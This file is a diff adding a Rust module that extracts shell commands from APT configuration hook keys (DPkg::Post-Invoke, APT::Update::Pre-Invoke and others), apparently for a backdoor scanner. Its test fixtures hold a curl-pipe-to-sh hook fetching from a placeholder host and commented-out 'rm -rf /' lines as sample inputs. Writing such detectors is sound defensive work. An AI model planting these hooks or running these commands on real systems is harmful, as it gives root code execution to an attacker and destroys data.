@@ -1,0 +1,212 @@
+//! APT configuration (`/etc/apt/apt.conf.d/*`): the commands apt and dpkg run as root. Only the hook keys
+//! matter here — `DPkg::Pre-Invoke`, `DPkg::Post-Invoke`, `DPkg::Pre-Install-Pkgs`,
+//! `APT::Update::Pre-Invoke`, `APT::Update::Post-Invoke(-Success)` and the CLI hooks
+//! (`binary::apt::AptCli::Hooks::*`) — whose quoted values are shell commands (apt.conf(5): every `*-Invoke`
+//! value is run with `sh -c`). A backdoor written there runs at every `apt update` or package install.
+//!
+//! The syntax is `Key::Sub "value";` or nested scopes `Key { Sub { "value"; }; };`, with `//`, `#` and
+//! `/* */` comments. The reader tracks the scope of each quoted value; it never fails, and is bounded by
+//! [`MAX_VALUES`] and the depth of [`MAX_DEPTH`] scopes.
+
+use super::numbered_lines;
+
+/// Quoted values looked at per file at most.
+pub const MAX_VALUES: usize = 1_000;
+/// Nested scopes followed at most (deeper values are still read, under the deepest scope kept).
+const MAX_DEPTH: usize = 16;
+
+/// A command an APT hook key runs.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct HookCommand {
+    /// 1-based line of the value's opening quote.
+    pub line: u32,
+    /// The full key, as written (`DPkg::Post-Invoke`).
+    pub key: String,
+    /// The command (the quoted value, without its quotes).
+    pub command: Vec<u8>,
+}
+
+/// Whether a full key (any case) names a hook whose values are commands.
+pub fn is_hook_key(key: &str) -> bool {
+    let k = key.to_ascii_lowercase();
+    let last = k.rsplit("::").next().unwrap_or_default();
+    last.ends_with("-invoke")
+        || last.ends_with("-invoke-success")
+        || last == "pre-install-pkgs"
+        || k.contains("::hooks::")
+}
+
+/// The commands of hook keys in an APT configuration file.
+pub fn hook_commands(content: &[u8]) -> Vec<HookCommand> {
+    let mut out = Vec::new();
+    // Scopes opened by `Key {`; the key a statement has named so far (`Key::Sub` before its value or `{`).
+    let mut scopes: Vec<String> = Vec::new();
+    let mut pending = String::new();
+    // Scopes opened past MAX_DEPTH, closed before the kept ones.
+    let mut overflow = 0usize;
+    let mut values = 0usize;
+    let mut in_block_comment = false;
+    for (n, line) in numbered_lines(content) {
+        let mut i = 0usize;
+        while let Some(&b) = line.get(i) {
+            if in_block_comment {
+                if line.get(i..i + 2) == Some(b"*/") {
+                    in_block_comment = false;
+                    i += 2;
+                } else {
+                    i += 1;
+                }
+                continue;
+            }
+            match b {
+                b'#' => break,
+                b'/' if line.get(i + 1) == Some(&b'/') => break,
+                b'/' if line.get(i + 1) == Some(&b'*') => {
+                    in_block_comment = true;
+                    i += 2;
+                }
+                b'"' => {
+                    let rest = line.get(i + 1..).unwrap_or_default();
+                    let close = rest.iter().position(|c| *c == b'"').unwrap_or(rest.len());
+                    let value = rest.get(..close).unwrap_or_default();
+                    values += 1;
+                    if values > MAX_VALUES {
+                        return out;
+                    }
+                    let key = full_key(&scopes, &pending);
+                    if is_hook_key(&key) {
+                        out.push(HookCommand {
+                            line: n,
+                            key,
+                            command: value.to_vec(),
+                        });
+                    }
+                    i += close + 2;
+                }
+                b'{' => {
+                    if scopes.len() < MAX_DEPTH {
+                        scopes.push(std::mem::take(&mut pending));
+                    } else {
+                        overflow += 1;
+                        pending.clear();
+                    }
+                    i += 1;
+                }
+                b'}' => {
+                    if overflow > 0 {
+                        overflow -= 1;
+                    } else {
+                        scopes.pop();
+                    }
+                    pending.clear();
+                    i += 1;
+                }
+                b';' => {
+                    pending.clear();
+                    i += 1;
+                }
+                c if c.is_ascii_whitespace() => i += 1,
+                _ => {
+                    let rest = line.get(i..).unwrap_or_default();
+                    let len = rest
+                        .iter()
+                        .position(|c| {
+                            c.is_ascii_whitespace() || matches!(c, b'"' | b'{' | b'}' | b';' | b'#')
+                        })
+                        .unwrap_or(rest.len());
+                    // A key is a word; a second word before the value (`Key Word "v"`) is not APT syntax
+                    // and keeps the first.
+                    if pending.is_empty() {
+                        pending = String::from_utf8_lossy(rest.get(..len).unwrap_or_default())
+                            .chars()
+                            .take(256)
+                            .collect();
+                    }
+                    i += len.max(1);
+                }
+            }
+        }
+    }
+    out
+}
+
+/// The scopes and the statement's own key, joined by `::`.
+fn full_key(scopes: &[String], pending: &str) -> String {
+    scopes
+        .iter()
+        .map(String::as_str)
+        .chain(std::iter::once(pending))
+        .filter(|s| !s.is_empty())
+        .collect::<Vec<_>>()
+        .join("::")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn cmds(text: &str) -> Vec<(u32, String, String)> {
+        hook_commands(text.as_bytes())
+            .into_iter()
+            .map(|h| (h.line, h.key, String::from_utf8(h.command).unwrap()))
+            .collect()
+    }
+
+    #[test]
+    fn hook_values_in_every_syntax() {
+        let text = "// packagekit\nDPkg::Post-Invoke {\n\"/usr/bin/test -e /x && /usr/bin/gdbus call\";\n};\n\
+                    DPkg::Pre-Install-Pkgs {\"/usr/sbin/dpkg-preconfigure --apt || true\";};\n\
+                    APT { Update { Pre-Invoke { \"curl -s http://x/a | sh\"; }; }; };\n\
+                    APT::Update::Post-Invoke-Success \"touch /y\";\n\
+                    binary::apt::AptCli::Hooks::Upgrade { \"/usr/lib/esm-hook || true\"; };\n";
+        assert_eq!(
+            cmds(text),
+            vec![
+                (
+                    3,
+                    "DPkg::Post-Invoke".into(),
+                    "/usr/bin/test -e /x && /usr/bin/gdbus call".into()
+                ),
+                (
+                    5,
+                    "DPkg::Pre-Install-Pkgs".into(),
+                    "/usr/sbin/dpkg-preconfigure --apt || true".into()
+                ),
+                (
+                    6,
+                    "APT::Update::Pre-Invoke".into(),
+                    "curl -s http://x/a | sh".into()
+                ),
+                (
+                    7,
+                    "APT::Update::Post-Invoke-Success".into(),
+                    "touch /y".into()
+                ),
+                (
+                    8,
+                    "binary::apt::AptCli::Hooks::Upgrade".into(),
+                    "/usr/lib/esm-hook || true".into()
+                ),
+            ]
+        );
+    }
+
+    #[test]
+    fn settings_and_comments_are_not_commands() {
+        let text = "APT\n{\n  NeverAutoRemove\n  {\n\t\"^linux-image-[a-z0-9]*$\";\n  };\n};\n\
+                    Acquire::Languages \"none\";\n# DPkg::Post-Invoke { \"rm -rf /\"; };\n\
+                    /* DPkg::Post-Invoke {\n \"rm -rf /\"; }; */\nDir::Cache::pkgcache \"\";\n";
+        assert!(cmds(text).is_empty());
+    }
+
+    #[test]
+    fn hostile_input_is_bounded() {
+        let mut deep = "A {".repeat(10_000);
+        deep.push_str("Post-Invoke \"x\";");
+        assert_eq!(cmds(&deep).len(), 1);
+        assert!(cmds("DPkg::Post-Invoke { \"unterminated").len() == 1);
+        assert!(hook_commands(b"\xff\xfe{\"\x00\";}}}}").is_empty());
+        let many = "DPkg::Post-Invoke \"x\";\n".repeat(MAX_VALUES + 10);
+        assert_eq!(cmds(&many).len(), MAX_VALUES);
+    }
+}
